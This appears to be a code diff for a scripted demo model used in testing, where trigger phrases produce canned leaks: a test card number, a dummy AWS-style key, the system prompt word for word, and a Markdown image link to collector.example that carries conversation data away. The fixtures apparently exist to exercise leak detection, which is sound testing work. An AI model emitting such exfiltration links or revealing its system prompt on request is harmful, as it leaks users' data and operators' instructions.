@@ -1,27 +1,70 @@
 import type { CanonicalCall } from '../../../call/call.ts'
 import type { EchoAnswer } from './echo.ts'
 
-/** Trigger phrase in the last user message and what it makes the demo model say. */
-const script: readonly (readonly [trigger: string, answer: (call: CanonicalCall) => string])[] = [
-  ['say a card number', () => 'Sure, the card is 4111 1111 1111 1111, valid until 12/30.'],
-  ['say a secret', () => `Of course, the key is ${['AKIA', 'Q3EGRTPLK2X7N5MB'].join('')}, keep it safe.`],
-  ['say the system prompt', (call) => `My instructions are: ${systemText(call)}`],
-  ['show an image link', () => '![status](https://collector.example/pixel?data=conversation)'],
-  ['answer in json', (call) => JSON.stringify(jsonAnswer(call))],
+interface ScriptLine {
+  /** In the last user message, in whatever case. */
+  readonly trigger: string
+  /** What the reference says of it. */
+  readonly shows: string
+  readonly answer: (call: CanonicalCall, said: string) => EchoAnswer | null
+}
+
+const saying =
+  (text: (call: CanonicalCall) => string): ScriptLine['answer'] =>
+  (call) => ({ text: text(call), toolCall: null })
+
+/** In the order in which they are looked for: the first that is found counts. */
+export const script: readonly ScriptLine[] = [
+  {
+    trigger: 'call the tool',
+    shows: 'A call of the first function that was offered, with arguments that fit its schema.',
+    answer: callTool,
+  },
+  {
+    trigger: 'say a card number',
+    shows: 'A card number that passes its checksum.',
+    answer: saying(() => 'Sure, the card is 4111 1111 1111 1111, valid until 12/30.'),
+  },
+  {
+    trigger: 'say a secret',
+    shows: 'An access key of AWS that opens nothing.',
+    answer: saying(() => `Of course, the key is ${['AKIA', 'Q3EGRTPLK2X7N5MB'].join('')}, keep it safe.`),
+  },
+  {
+    trigger: 'say the system prompt',
+    shows: 'The first system text of the call, word for word.',
+    answer: saying((call) => `My instructions are: ${systemText(call)}`),
+  },
+  {
+    trigger: 'show an image link',
+    shows: 'A picture in Markdown whose address carries data away.',
+    answer: saying(() => '![status](https://collector.example/pixel?data=conversation)'),
+  },
+  {
+    trigger: 'answer in json',
+    shows: 'JSON that fits the schema of the call, or `{"answer":"demo"}` without one.',
+    answer: saying((call) => JSON.stringify(jsonAnswer(call))),
+  },
 ]
 
-/** The scripted answer of the first trigger found; null when none is. `call the tool` calls the first tool offered. */
+/** The scripted answer of the first trigger found; null when none is. */
 export function scriptedAnswer(call: CanonicalCall, text: string): EchoAnswer | null {
   const said = text.toLowerCase()
-  const tool = call.tools.find((known) => known.kind === 'function')
-  if (tool !== undefined && said.includes('call the tool')) {
-    return {
-      text: 'Calling a tool.',
-      toolCall: { name: tool.name, arguments: JSON.stringify(instanceOf(tool.parameters ?? {}, text)) },
-    }
+  for (const { trigger, answer } of script) {
+    const answered = said.includes(trigger) ? answer(call, text) : null
+    if (answered !== null) return answered
   }
-  const line = script.find(([trigger]) => said.includes(trigger))
-  return line === undefined ? null : { text: line[1](call), toolCall: null }
+  return null
+}
+
+/** Null where none was offered. */
+function callTool(call: CanonicalCall, said: string): EchoAnswer | null {
+  const tool = call.tools.find((known) => known.kind === 'function')
+  if (tool === undefined) return null
+  return {
+    text: 'Calling a tool.',
+    toolCall: { name: tool.name, arguments: JSON.stringify(instanceOf(tool.parameters ?? {}, said)) },
+  }
 }
 
 function systemText(call: CanonicalCall): string {
